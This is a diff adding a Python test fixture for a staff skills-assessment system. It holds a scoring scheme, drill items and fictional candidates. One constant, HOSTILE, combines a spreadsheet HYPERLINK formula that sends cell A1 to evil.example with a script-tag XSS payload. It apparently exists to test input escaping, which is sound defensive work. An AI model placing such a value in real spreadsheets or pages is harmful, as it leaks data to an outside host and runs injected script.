@@ -1,0 +1,67 @@
+"""A small assessment made by the real rules: plainly fictional people, one of each standing, one hostile."""
+
+from __future__ import annotations
+
+from decimal import Decimal
+
+from lianbing.domain.assessment import (
+    Candidate,
+    Level,
+    MarkedItem,
+    PartWeight,
+    Scheme,
+)
+from lianbing.domain.items import Skill
+from lianbing.domain.papers import Basis, Employee
+from lianbing.domain.periods import Span
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
+SCHEME = Scheme(
+    id="half-year-skill",
+    title="客户经理半年技能考评方案（示例）",
+    span=Span.HALF_YEAR,
+    parts=(
+        PartWeight(Skill.KNOWLEDGE, Decimal(40)),
+        PartWeight(Skill.SYSTEMS, Decimal(20)),
+        PartWeight(Skill.TOOLS, Decimal(20)),
+        PartWeight(Skill.ANALYSIS, Decimal(20)),
+    ),
+    levels=(
+        Level("优秀", Decimal(90), Decimal(60)),
+        Level("良好", Decimal(80), Decimal(60)),
+        Level("合格", Decimal(60), Decimal(0)),
+        Level("待提高", Decimal(0), Decimal(0)),
+    ),
+)
+DRILLS = {"2026H2-a": "2026 下半年练兵（一）", "2026H2-b": "2026 下半年练兵（二）"}
+ITEMS = (
+    ("2026H2-a", "vis-0003", 1, Skill.KNOWLEDGE, "2", ("VIS-02",)),
+    ("2026H2-a", "vis-0012", 2, Skill.KNOWLEDGE, "3", ("VIS-04", "VIS-06")),
+    ("2026H2-a", "man-0007", 3, Skill.KNOWLEDGE, "2.5", ("MAN-11",)),
+    ("2026H2-a", "sys-0002", 4, Skill.SYSTEMS, "5", ("SRV-03",)),
+    ("2026H2-b", "tool-0001", 1, Skill.TOOLS, "3", ("K034",)),
+    ("2026H2-b", "stock-ratio.1", 2, Skill.ANALYSIS, "4", ("K034", "K035")),
+    ("2026H2-b", "stock-ratio.2", 3, Skill.ANALYSIS, "3", ("K035",)),
+)
+BASIS = {
+    "VIS-02": Basis("每天走访时长", "每天花在走访上的时间不少于 6 小时，按公司规定的时间下班。", "重建"),
+    "VIS-04": Basis("订货前一天上门", "在客户订货日之前 1 天上门，把货源信息告诉客户。", "存疑"),
+    "VIS-06": Basis("每天走访户数", "每天走访的零售户不少于 30 户。", "完整"),
+    "MAN-11": Basis("进门称呼", "进门先打招呼，称呼得体。", "完整"),
+    "SRV-03": Basis("答复时限", "市场经理对不能立即解答的问题，24 小时内答复。", "完整"),
+    "K034": Basis("行业知识", "可销天数 = 期末库存 ÷ 日均销量，单位天。", "置信度高"),
+    "K035": Basis("行业知识", "一个周期里的零售销量推算：上期库存 + 本期到货 − 本期库存。", "置信度高"),
+}
+
+
+def candidate(number: str, name: str, points: str, first_entry: int, missing: tuple[str, ...] = ()) -> Candidate:
+    """A person with one word of ``points`` per item: a number, ``?`` for ungraded, ``x`` for not on a paper."""
+    marks = []
+    for (drill, item, place, skill, worth, clauses), got in zip(ITEMS, points.split(), strict=True):
+        if got == "x":
+            continue
+        earned = None if got == "?" else Decimal(got)
+        entry = first_entry + len(marks) if got != "?" or number != "C0003" else None
+        paper = f"{drill}-{number}"
+        marks.append(MarkedItem(drill, paper, item, place, skill, Decimal(worth), earned, entry, clauses))
+    return Candidate(Employee(number, name, "城区一组" if number < "C0003" else "乡镇组"), tuple(marks), missing)
